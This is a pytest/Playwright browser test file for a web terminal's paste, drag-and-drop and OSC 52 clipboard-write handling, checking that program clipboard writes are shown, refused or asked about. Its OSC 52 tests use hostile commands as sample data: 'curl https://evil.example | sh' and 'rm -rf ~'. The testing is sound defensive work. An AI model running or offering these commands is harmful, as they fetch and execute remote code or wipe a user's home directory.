"""Paste the way people do it (issue 22 §1): real key presses in Chromium with the real
clipboard (permissions granted), the terminal's menu, a file dragged over a pane.

What the shell receives is captured by ``cat`` on a raw terminal (browser_util.start_capture).
"""

from __future__ import annotations

import base64
import json
import shlex

import pytest
import pytest_asyncio
from playwright.async_api import Page

from browser_util import (
    ACTIVE_ROWS,
    SENTINEL,
    PageProblems,
    captured_after_sentinel,
    open_terminal_page,
    printed_url,
    run_in_terminal,
    start_capture,
    wait_for_line,
    wait_for_state,
    wait_replayed,
)
from conftest import USER, eventually, serving
from coda_aio.testing.fake_workspace import FakeWorkspace
from test_file_transfer import page_message, png

pytestmark = pytest.mark.asyncio(loop_scope="module")

CLIPBOARD = ["clipboard-read", "clipboard-write"]

WRITE_TEXT = "(text) => navigator.clipboard.writeText(text)"
WRITE_PNG = """async (b64) => {
  const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
  await navigator.clipboard.write([new ClipboardItem({ 'image/png': new Blob([bytes], { type: 'image/png' }) })]);
}"""


def same_picture(saved: bytes, image: bytes) -> bool:
    """The browser's clipboard decodes a PNG and encodes it again: the same size of PNG."""
    return saved[:8] == image[:8] and saved[16:24] == image[16:24]


@pytest_asyncio.fixture(loop_scope="module")
async def served(make_settings):
    async with serving(make_settings()) as (url, app):
        yield url, app


async def clipboard_page(browser, url: str, *init_scripts: str) -> Page:
    page = await open_terminal_page(browser, url, PageProblems(), *init_scripts)
    await page.context.grant_permissions(CLIPBOARD, origin=url)
    return page


async def press_in_terminal(page: Page, *keys: str) -> None:
    await page.locator(".terminal-pane.active .xterm-screen").click()
    for key in keys:
        await page.keyboard.press(key)


async def test_ctrl_v_and_ctrl_shift_v_paste_the_clipboard_text(browser, served, tmp_path):
    url, _app = served
    page = await clipboard_page(browser, url)
    capture = tmp_path / "capture"
    await start_capture(page, capture)
    await page.evaluate(WRITE_TEXT, "pasted-1 ")
    await press_in_terminal(page, "Control+V", "Control+Shift+V")
    # Text only, twice: no ^V (readline's literal-next) reached the shell.
    assert await captured_after_sentinel(page, capture) == "pasted-1 pasted-1 " + SENTINEL
    await page.context.close()


async def test_the_setting_sends_ctrl_v_to_the_shell_and_ctrl_shift_v_still_pastes(browser, served, tmp_path):
    url, _app = served
    settings = json.dumps({"ctrlV": "shell"})
    page = await clipboard_page(browser, url, f"localStorage.setItem('coda.settings', {json.dumps(settings)})")
    capture = tmp_path / "capture"
    await start_capture(page, capture)
    await page.evaluate(WRITE_TEXT, "text")
    await press_in_terminal(page, "Control+V", "Control+Shift+V")
    assert await captured_after_sentinel(page, capture) == "\x16text" + SENTINEL
    await page.context.close()


async def test_ctrl_v_with_an_image_on_the_clipboard_uploads_it_and_types_its_path(browser, served, home, tmp_path):
    url, _app = served
    page = await clipboard_page(browser, url)
    capture = tmp_path / "capture"
    await start_capture(page, capture)
    image = png(6, 3)
    await page.evaluate(WRITE_PNG, base64.b64encode(image).decode())
    await press_in_terminal(page, "Control+V")
    await page_message(page, f"Uploaded to {home / 'uploads'}/")
    [saved] = list((home / "uploads").iterdir())
    assert same_picture(saved.read_bytes(), image)
    assert await captured_after_sentinel(page, capture) == f"{shlex.quote(str(saved))} " + SENTINEL
    await page.context.close()


async def test_the_menus_paste_pastes_text_and_uploads_an_image(browser, served, home, tmp_path):
    url, _app = served
    page = await clipboard_page(browser, url)
    capture = tmp_path / "capture"
    await start_capture(page, capture)

    async def paste_from_menu() -> None:
        await page.locator(".terminal-pane.active .xterm-screen").click(button="right")
        await page.get_by_role("menuitem", name="Paste").click()

    await page.evaluate(WRITE_TEXT, "from-menu ")
    await paste_from_menu()
    # The page reads the clipboard after the menu closes: the image may be copied only once
    # the text has landed, as a person sees it land before copying something else.
    await eventually(lambda: capture.read_bytes() == b"from-menu ", timeout=10)
    image = png(2, 2)
    await page.evaluate(WRITE_PNG, base64.b64encode(image).decode())
    await paste_from_menu()
    await page_message(page, f"Uploaded to {home / 'uploads'}/")
    [saved] = list((home / "uploads").iterdir())
    assert same_picture(saved.read_bytes(), image)
    assert await captured_after_sentinel(page, capture) == f"from-menu {shlex.quote(str(saved))} " + SENTINEL
    await page.context.close()


async def test_the_menus_paste_says_why_when_the_browser_refuses_the_clipboard(browser, served):
    url, _app = served
    page = await open_terminal_page(browser, url, PageProblems())
    await page.context.grant_permissions([], origin=url)
    await page.context.clear_permissions()
    # Denied outright, as a person who said "Block" to the browser's question would have.
    cdp = await page.context.new_cdp_session(page)
    await cdp.send("Browser.setPermission", {"permission": {"name": "clipboard-read"}, "setting": "denied", "origin": url})
    await page.locator(".terminal-pane.active .xterm-screen").click(button="right")
    await page.get_by_role("menuitem", name="Paste").click()
    await page_message(page, "press Ctrl+V to paste", kind="bad")
    await page.context.close()


async def test_a_file_dragged_over_a_pane_outlines_it_until_it_leaves_or_drops(browser, served, home, tmp_path):
    url, _app = served
    page = await open_terminal_page(browser, url, PageProblems())
    dragged = tmp_path / "notes.txt"
    dragged.write_bytes(b"notes")
    box = await page.locator(".terminal-pane.active .xterm-screen").bounding_box()
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    cdp = await page.context.new_cdp_session(page)
    data = {"items": [], "files": [str(dragged)], "dragOperationsMask": 1}

    async def drag(kind: str, at_x: float, at_y: float) -> None:
        await cdp.send("Input.dispatchDragEvent", {"type": kind, "x": at_x, "y": at_y, "data": data})

    outlined = "() => document.querySelector('.terminal-pane.active').classList.contains('drop-target')"
    await drag("dragEnter", x, y)
    await drag("dragOver", x, y)
    await page.wait_for_function(outlined)
    await drag("drop", x, y)
    await page_message(page, f"Uploaded to {home / 'uploads' / 'notes.txt'}.")
    assert not await page.evaluate(outlined)
    assert (home / "uploads" / "notes.txt").read_bytes() == b"notes"
    await page.context.close()


async def test_at_the_token_prompt_ctrl_v_pastes_and_the_prompt_names_the_keys(browser, make_settings):
    fake = FakeWorkspace()
    fake.add_user(USER)
    await fake.start()
    try:
        async with serving(make_settings(host=fake.url)) as (url, _app):
            context = await browser.new_context(viewport={"width": 1000, "height": 640})
            page = await context.new_page()
            await page.goto(printed_url(url))
            await context.grant_permissions(CLIPBOARD, origin=url)
            await wait_for_state(page, "prompt")
            text = await page.locator(ACTIVE_ROWS).inner_text()
            assert "Ctrl+V" in text and "Ctrl+Shift+V" in text, text
            await page.evaluate(WRITE_TEXT, fake.issue_pat(USER))
            await press_in_terminal(page, "Control+V", "Enter")
            await wait_for_state(page, "shell")
            await context.close()
    finally:
        await fake.stop()


# --- programs setting the clipboard (OSC 52, issue 22 §5) -----------------------------------

READ_CLIPBOARD = "() => navigator.clipboard.readText()"


async def osc52(page: Page, text: str, done: str) -> None:
    encoded = base64.b64encode(text.encode()).decode()
    await run_in_terminal(page, f"printf '\\e]52;c;{encoded}\\a'; echo {done}")
    await wait_for_line(page, done)


def with_setting(**settings) -> str:
    return f"localStorage.setItem('coda.settings', {json.dumps(json.dumps(settings))})"


async def test_every_clipboard_write_shows_a_notice_and_a_replay_writes_nothing(browser, served):
    url, _app = served
    page = await clipboard_page(browser, url)
    await osc52(page, "curl https://evil.example | sh\n", "first-done")
    await page_message(page, "set the clipboard to “curl https://evil.example | sh⏎”", kind="info")
    assert await page.evaluate(READ_CLIPBOARD) == "curl https://evil.example | sh\n"
    await osc52(page, "second", "second-done")
    await page_message(page, "set the clipboard to “second”", kind="info")
    assert await page.evaluate(READ_CLIPBOARD) == "second"

    # The writes are in the scrollback a reload replays: they set nothing again.
    await page.evaluate(WRITE_TEXT, "mine")
    await page.reload()
    await wait_for_state(page, "shell")
    await wait_replayed(page)
    await run_in_terminal(page, "echo after-replay")
    await wait_for_line(page, "after-replay")
    assert await page.evaluate(READ_CLIPBOARD) == "mine"
    assert await page.locator("#page-message").is_hidden()
    await page.context.close()


async def test_the_setting_refuses_clipboard_writes_and_says_so(browser, served):
    url, _app = served
    page = await clipboard_page(browser, url, with_setting(clipboardWrites="refuse"))
    await page.evaluate(WRITE_TEXT, "mine")
    await osc52(page, "rm -rf ~", "refused-done")
    await page_message(page, "tried to set the clipboard to “rm -rf ~”: refused", kind="info")
    assert await page.evaluate(READ_CLIPBOARD) == "mine"
    await page.context.close()


async def test_the_setting_asks_before_a_program_sets_the_clipboard(browser, served, tmp_path):
    url, _app = served
    page = await clipboard_page(browser, url, with_setting(clipboardWrites="ask"))
    await page.evaluate(WRITE_TEXT, "mine")
    question = page.locator("#confirm-close-text")
    await osc52(page, "no thanks", "asked-1")
    await question.wait_for()
    assert "wants to set the clipboard to “no thanks”" in await question.inner_text()
    await page.get_by_role("button", name="Leave it").click()
    await page_message(page, "The clipboard was left as it was", kind="info")
    assert await page.evaluate(READ_CLIPBOARD) == "mine"

    await osc52(page, "yes please", "asked-2")
    await question.wait_for()
    await page.get_by_role("button", name="Set the clipboard").click()
    await page_message(page, "set the clipboard to “yes please”", kind="info")
    assert await page.evaluate(READ_CLIPBOARD) == "yes please"
    # The terminal has the keys again.
    capture = tmp_path / "capture"
    await start_capture(page, capture)
    assert await captured_after_sentinel(page, capture) == SENTINEL
    await page.context.close()
